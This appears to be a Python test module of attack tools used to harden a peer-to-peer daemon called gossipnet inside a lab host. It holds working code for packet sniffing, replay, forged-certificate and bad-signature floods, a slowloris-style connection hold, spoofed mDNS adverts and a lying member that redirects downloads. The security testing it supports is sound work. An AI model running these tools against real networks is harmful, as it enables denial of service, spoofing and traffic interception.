"""Hostile tools that run inside a LanBox host: ``python -m tests.attackers <tool> [options]``.

Each tool does one thing an outsider (or a lying member) on the LAN can do, bounded in
count and time, and prints one JSON line saying what it did. ``benchmarks/attacks.py``
and ``tests/test_daemon_hardening.py`` drive them against real daemons; nothing here is
imported by gossipnet.

- ``sniff``: capture datagrams to a UDP port on this host's wire (AF_PACKET: what a hub,
  a mirror port or Wi-Fi gives any listener), printing their bytes in hex.
- ``send``: send given datagrams (a replay), from one port or rotating source ports.
- ``cert-flood``: envelopes from fresh keys carrying certificates of a self-made swarm
  key, with the victim's (public) swarm id, from rotating source ports.
- ``sig-flood``: a sniffed member's envelope re-sent with new sequence numbers and a
  broken signature, from rotating source ports.
- ``tarpit``: an HTTP server that accepts and never answers, counting connections (where
  a replayed manifest would make a victim pull from).
- ``idle-conns``: hold idle and half-sent HTTP connections to a victim; count how many
  the victim cut, and whether its status page still answers meanwhile.
- ``fake-mdns``: publish fake mDNS services of the victim's swarm pointing elsewhere.
- ``member``: a member with valid credentials that announces manifests whose blob URL
  redirects to a canary URL, counting canary hits.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import socket
import struct
import sys
import time
from types import SimpleNamespace

ETH_P_ALL = 0x0003


def emit(**fields) -> None:
    print(json.dumps(fields), flush=True)


def hostport(text: str) -> tuple[str, int]:
    host, _, port = text.rpartition(":")
    return host, int(port)


# --------------------------------------------------------------------------- sniff / send


def sniff(args) -> None:
    """Print (as JSON) up to ``count`` UDP payloads to ``port`` whose type byte is ``mtype``."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((args.iface, 0))
    s.settimeout(0.5)
    found = []
    deadline = time.monotonic() + args.timeout
    while len(found) < args.count and time.monotonic() < deadline:
        try:
            frame = s.recv(65535)
        except TimeoutError:
            continue
        if len(frame) < 42 or frame[12:14] != b"\x08\x00":
            continue
        ip = frame[14:]
        ihl = (ip[0] & 0x0F) * 4
        if ip[9] != 17:
            continue
        src = socket.inet_ntoa(ip[12:16])
        udp = ip[ihl:]
        sport, dport = struct.unpack(">HH", udp[:4])
        payload = udp[8:]
        if dport != args.port or len(payload) < 5 or (args.mtype and payload[4] != args.mtype):
            continue
        if args.source and src != args.source:
            continue
        found.append({"src": f"{src}:{sport}", "hex": payload.hex()})
    emit(tool="sniff", captured=found)


def send(args) -> None:
    datagrams = [bytes.fromhex(h) for h in args.hex]
    target = hostport(args.target)
    socks = []
    sent = 0
    try:
        for i in range(args.count):
            if args.rotate or not socks:
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                s.bind((args.bind, 0))
                socks.append(s)
            socks[-1].sendto(datagrams[i % len(datagrams)], target)
            sent += 1
            if args.rotate and len(socks) > 64:
                socks.pop(0).close()
            if args.rate:
                time.sleep(1.0 / args.rate)
    finally:
        ports = len({s.getsockname()[1] for s in socks})
        for s in socks:
            s.close()
    emit(tool="send", sent=sent, target=args.target, rotating=args.rotate, ports_seen=ports)


# --------------------------------------------------------------------------- floods


def _rotating_sender(bind: str):
    """Send each datagram from a fresh source port (a new socket; the kernel picks the port)."""
    state = {"ports": set()}

    def out(data: bytes, target: tuple[str, int]) -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.bind((bind, 0))
            state["ports"].add(s.getsockname()[1])
            s.sendto(data, target)

    return out, state


def cert_flood(args) -> None:
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from gossipnet.trust.identity import Identity
    from gossipnet.trust.swarm import issue_certificate
    from gossipnet.wire.envelope import Sealer
    from gossipnet.wire.types import MsgType

    fake_swarm_key = Ed25519PrivateKey.generate()
    swarm_id = bytes.fromhex(args.swarm_id)
    target = hostport(args.target)
    out, state = _rotating_sender(args.bind)
    now_ms = int(time.time() * 1000)
    t0 = time.monotonic()
    for i in range(args.count):
        ident = Identity.generate()
        cert = issue_certificate(fake_swarm_key, ident.pubkey, now_ms // 1000 + 3600).compact
        creds = SimpleNamespace(swarm_id=swarm_id, cert=cert)
        sealer = Sealer(ident, creds, incarnation=1)  # type: ignore[arg-type]
        out(sealer.seal(MsgType.PING, {"q": i, "t": args.victim_id}, int(time.time() * 1000),
                        to=args.victim_id), target)
        if args.rate:
            time.sleep(max(0.0, t0 + (i + 1) / args.rate - time.monotonic()))
    emit(tool="cert-flood", sent=args.count, source_ports=len(state["ports"]),
         seconds=round(time.monotonic() - t0, 2))


def sig_flood(args) -> None:
    from gossipnet.wire.envelope import HEADER

    base = bytearray(bytes.fromhex(args.hex))
    target = hostport(args.target)
    out, state = _rotating_sender(args.bind)
    seq_offset = HEADER.size - 4 - 8 - 8  # seq u64 precedes timestamp u64 and body length u32
    t0 = time.monotonic()
    for i in range(args.count):
        data = bytearray(base)
        struct.pack_into(">Q", data, seq_offset, 10**9 + i)  # fresh seq: passes the replay window
        struct.pack_into(">Q", data, seq_offset + 8, int(time.time() * 1000))
        data[-1] ^= 0x5A  # and a signature that cannot verify
        out(bytes(data), target)
        if args.rate:
            time.sleep(max(0.0, t0 + (i + 1) / args.rate - time.monotonic()))
    emit(tool="sig-flood", sent=args.count, source_ports=len(state["ports"]),
         seconds=round(time.monotonic() - t0, 2))


# --------------------------------------------------------------------------- HTTP


def tarpit(args) -> None:
    """Accept connections on ``port`` and answer nothing; report connection count at the end."""

    async def main():
        seen = {"connections": 0, "peers": set()}

        async def handle(reader, writer):
            seen["connections"] += 1
            seen["peers"].add(writer.get_extra_info("peername")[0])
            try:
                await asyncio.sleep(args.duration)
            finally:
                writer.close()

        server = await asyncio.start_server(handle, args.bind, args.port)
        emit(tool="tarpit", listening=args.port)
        async with server:
            await asyncio.sleep(args.duration)
        emit(tool="tarpit", connections=seen["connections"], peers=sorted(seen["peers"]))

    asyncio.run(main())


def idle_conns(args) -> None:
    """Hold ``idle`` silent and ``half`` half-sent connections to the victim for ``hold`` s."""
    host, port = hostport(args.target)

    async def main():
        conns = []
        refused = 0
        for i in range(args.idle + args.half):
            try:
                r, w = await asyncio.wait_for(asyncio.open_connection(host, port), 5)
            except (OSError, asyncio.TimeoutError):
                refused += 1
                continue
            if i >= args.idle:
                w.write(b"GET /api/status HTTP/1.1\r\nHost: x\r\n")  # never finished
            conns.append((r, w))
        opened = len(conns)
        t0 = time.monotonic()
        cut: list[float] = []

        async def watch(r):
            try:
                while await r.read(4096):
                    pass
            except (OSError, ConnectionError):
                pass
            cut.append(time.monotonic() - t0)

        watchers = [asyncio.create_task(watch(r)) for r, _ in conns]
        # a slowloris keeps dribbling bytes into its half-sent requests
        end = t0 + args.hold
        while time.monotonic() < end:
            for _, w in conns[args.idle:]:
                if not w.is_closing():
                    try:
                        w.write(b"X")
                    except (OSError, RuntimeError):
                        pass
            await asyncio.sleep(1.0)
        for _, w in conns:
            w.close()
        await asyncio.gather(*watchers, return_exceptions=True)
        emit(tool="idle-conns", attempted=args.idle + args.half, opened=opened, refused_at_connect=refused,
             cut_by_victim=len([c for c in cut if c < args.hold - 0.5]),
             median_cut_s=round(sorted(cut)[len(cut) // 2], 2) if cut else None)

    asyncio.run(main())


# --------------------------------------------------------------------------- mDNS


def fake_mdns(args) -> None:
    from zeroconf import IPVersion, ServiceInfo
    from zeroconf.asyncio import AsyncZeroconf

    from gossipnet.net.advert import SERVICE_TYPE
    from gossipnet.node import PROTOCOL_VERSION

    proto = args.proto if args.proto is not None else PROTOCOL_VERSION

    async def main():
        zc = AsyncZeroconf(interfaces=[args.bind], ip_version=IPVersion.V4Only)
        infos = []
        for i in range(args.count):
            addr = f"{args.prefix}{i // 250}.{i % 250 + 1}"
            node = os.urandom(10).hex()[:16]
            txt = {"swarm": args.swarm_id, "node": node, "proto": str(proto), "udp": "7946",
                   "http": "8080", "learner": "convnet"}
            infos.append(ServiceInfo(SERVICE_TYPE, f"fake{i}-{node}.{SERVICE_TYPE}", port=7946,
                                     properties=txt, addresses=[socket.inet_aton(addr)],
                                     server=f"fake{i}-{node}.local."))
        # No probing for name conflicts (cooperating_responders): an attacker does not wait.
        broadcasts = await asyncio.gather(*(zc.async_register_service(info, cooperating_responders=True)
                                            for info in infos), return_exceptions=True)
        registered = sum(not isinstance(b, BaseException) for b in broadcasts)
        emit(tool="fake-mdns", registered=registered)
        await asyncio.gather(*(b for b in broadcasts if not isinstance(b, BaseException)),
                             return_exceptions=True)
        await asyncio.sleep(args.duration)
        await zc.async_close()
        emit(tool="fake-mdns", done=True)

    asyncio.run(main())


# --------------------------------------------------------------------------- a lying member


def member(args) -> None:
    """Join the swarm with a valid token; announce manifests whose URL redirects to a canary."""
    from aiohttp import web

    from gossipnet.membership import Membership, MembershipConfig
    from gossipnet.net.udp import UdpEndpoint
    from gossipnet.trust.credentials import load_credentials
    from gossipnet.trust.identity import Identity
    from gossipnet.wire import MsgType, Receiver, Rejected, Sealer

    async def main():
        ident = Identity.generate()
        now_ms = int(time.time() * 1000)
        creds = load_credentials(ident, now_ms, swarm_token=args.token)
        udp = await UdpEndpoint.bind((args.bind, 7946))
        m = Membership(ident.node_id, (args.bind, 7946), {"http": args.http_port, "kind": "convnet"},
                       MembershipConfig.lan(), incarnation=now_ms)
        sealer = Sealer(ident, creds, now_ms)
        receiver = Receiver(creds.policy, node_id=ident.node_id)
        hits = {"canary": 0, "blob": 0}

        async def blob(request):
            hits["blob"] += 1
            raise web.HTTPFound(args.canary)

        async def canary(request):
            hits["canary"] += 1
            return web.Response(text="secret")

        app = web.Application()
        app.router.add_get("/blob/{x}", blob)
        app.router.add_get("/canary", canary)
        runner = web.AppRunner(app)
        await runner.setup()
        await web.TCPSite(runner, args.bind, args.http_port).start()
        for peer in args.peer:
            m.add_seed(hostport(peer), time.monotonic())

        async def send_all(outs):
            for o in outs:
                await udp.send(sealer.seal(o.msg_type, o.body, int(time.time() * 1000), to=o.to), o.addr)

        async def recv_loop():
            while True:
                data, addr = await udp.recv()
                res = receiver.open(data, (addr[0], addr[1]), int(time.time() * 1000))
                if isinstance(res, Rejected) or res.msg_type == MsgType.MANIFEST:
                    continue
                await send_all(m.handle(res.node_id, (addr[0], addr[1]), res.msg_type, res.body,
                                        time.monotonic()))

        template = None
        if args.template:  # a real member's MANIFEST, sniffed: its shapes fit the victims' model
            from gossipnet.wire.body import BodyLimits, decode_body
            from gossipnet.wire.envelope import FLAG_HAS_CERT, HEADER_LEN, SIG_LEN, parse_header

            raw = bytes.fromhex(args.template)
            head = parse_header(raw)
            start = HEADER_LEN + (72 if head.flags & FLAG_HAS_CERT else 0)
            template = decode_body(raw[start:len(raw) - SIG_LEN], BodyLimits.udp())
        reader = asyncio.create_task(recv_loop())
        end = time.monotonic() + args.duration
        next_announce = 0.0
        announced = 0
        while time.monotonic() < end:
            now = time.monotonic()
            await send_all(m.tick(now))
            if now >= next_announce and template is not None:
                next_announce = now + 1.0
                for p in m.alive_peers():
                    body = {**template, "step": announced + 1, "sha256": os.urandom(32),
                            "port": args.http_port, "path": f"/blob/{os.urandom(32).hex()}"}
                    await send_all([SimpleNamespace(msg_type=MsgType.MANIFEST, body=body, to=p.node_id,
                                                    addr=p.addr)])
                    announced += 1
            await asyncio.sleep(0.05)
        reader.cancel()
        emit(tool="member", node_id=ident.node_id, announced=announced, alive_peers=len(m.alive_peers()),
             blob_requests=hits["blob"], canary_hits=hits["canary"])
        await runner.cleanup()
        await udp.close()

    asyncio.run(main())


def main(argv: list[str] | None = None) -> None:
    p = argparse.ArgumentParser(prog="python -m tests.attackers")
    sub = p.add_subparsers(dest="tool", required=True)
    s = sub.add_parser("sniff")
    s.add_argument("--iface", default="eth0")
    s.add_argument("--port", type=int, default=7946)
    s.add_argument("--mtype", type=int, default=0)
    s.add_argument("--source", default="")
    s.add_argument("--count", type=int, default=1)
    s.add_argument("--timeout", type=float, default=30)
    s = sub.add_parser("send")
    s.add_argument("--target", required=True)
    s.add_argument("--bind", default="0.0.0.0")
    s.add_argument("--count", type=int, default=1)
    s.add_argument("--rate", type=float, default=0)
    s.add_argument("--rotate", action="store_true")
    s.add_argument("hex", nargs="+")
    for name in ("cert-flood", "sig-flood"):
        s = sub.add_parser(name)
        s.add_argument("--target", required=True)
        s.add_argument("--bind", default="0.0.0.0")
        s.add_argument("--count", type=int, default=3000)
        s.add_argument("--rate", type=float, default=0)
        if name == "cert-flood":
            s.add_argument("--swarm-id", required=True)
            s.add_argument("--victim-id", required=True)
        else:
            s.add_argument("--hex", required=True)
    s = sub.add_parser("tarpit")
    s.add_argument("--bind", default="0.0.0.0")
    s.add_argument("--port", type=int, default=8080)
    s.add_argument("--duration", type=float, default=30)
    s = sub.add_parser("idle-conns")
    s.add_argument("--target", required=True)
    s.add_argument("--idle", type=int, default=150)
    s.add_argument("--half", type=int, default=150)
    s.add_argument("--hold", type=float, default=20)
    s = sub.add_parser("fake-mdns")
    s.add_argument("--bind", required=True)
    s.add_argument("--swarm-id", required=True)
    s.add_argument("--proto", type=int, default=None, help="default: this version's (node.PROTOCOL_VERSION)")
    s.add_argument("--count", type=int, default=64)
    s.add_argument("--prefix", default="10.66.")
    s.add_argument("--duration", type=float, default=30)
    s = sub.add_parser("member")
    s.add_argument("--bind", required=True)
    s.add_argument("--token", required=True)
    s.add_argument("--peer", action="append", default=[])
    s.add_argument("--http-port", type=int, default=8080)
    s.add_argument("--canary", required=True)
    s.add_argument("--template", default="", help="a sniffed MANIFEST datagram (hex) to imitate")
    s.add_argument("--duration", type=float, default=20)
    args = p.parse_args(argv)
    {"sniff": sniff, "send": send, "cert-flood": cert_flood, "sig-flood": sig_flood, "tarpit": tarpit,
     "idle-conns": idle_conns, "fake-mdns": fake_mdns, "member": member}[args.tool](args)


if __name__ == "__main__":
    main(sys.argv[1:])
